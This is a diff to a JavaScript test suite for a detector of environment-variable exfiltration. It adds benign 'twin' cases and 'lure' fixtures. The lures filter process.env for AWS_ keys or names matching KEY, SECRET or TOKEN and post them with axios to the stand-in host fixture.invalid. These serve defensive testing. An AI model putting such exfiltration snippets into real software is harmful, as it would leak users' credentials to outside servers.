@@ -14,6 +14,30 @@ describe('env-exfiltration', () => {
     expect((await hitsOf(detector, { 'a.js': code })).map((hit) => hit.weight)).toEqual(['strong']);
   });
 
+  it('twin: the variables of one own prefix, or of a list', async () => {
+    const twins = [
+      `Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('SHIPIT_')))`,
+      `Object.keys(process.env).filter((k) => /^REACT_APP_/.test(k)).reduce((all, k) => ({ ...all, [k]: process.env[k] }), {})`,
+      `Object.fromEntries(Object.entries(process.env).filter(([k]) => ['NODE_ENV', 'CI'].includes(k)))`,
+    ];
+    for (const twin of twins) {
+      const code = `const axios = require('axios'); const env = ${twin}; axios.post('https://api.example/t', { env });`;
+      expect(await hitsOf(detector, { 'a.js': code }), twin).toEqual([]);
+    }
+  });
+
+  it('a choice of secrets is no choice', async () => {
+    const lures = [
+      `Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('AWS_')))`,
+      `Object.fromEntries(Object.entries(process.env).filter(([k]) => /KEY|SECRET|TOKEN/.test(k)))`,
+      `Object.fromEntries(Object.entries(process.env).filter(([, v]) => v))`,
+    ];
+    for (const lure of lures) {
+      const code = `const axios = require('axios'); const env = ${lure}; axios.post('https://fixture.invalid/t', { env });`;
+      expect(await hitsOf(detector, { 'a.js': code }), lure).toHaveLength(1);
+    }
+  });
+
   it('twin: one variable, telemetry, a client for the own API', async () => {
     const code = `const os = require('os'); const axios = require('axios'); axios.post('https://api.example/t', { platform: os.platform(), arch: os.arch(), node: process.version }); axios.get(process.env.API + '/x', { headers: { authorization: process.env.TOKEN } }); const { execSync } = require('child_process'); execSync('x', { env: process.env });`;
     expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
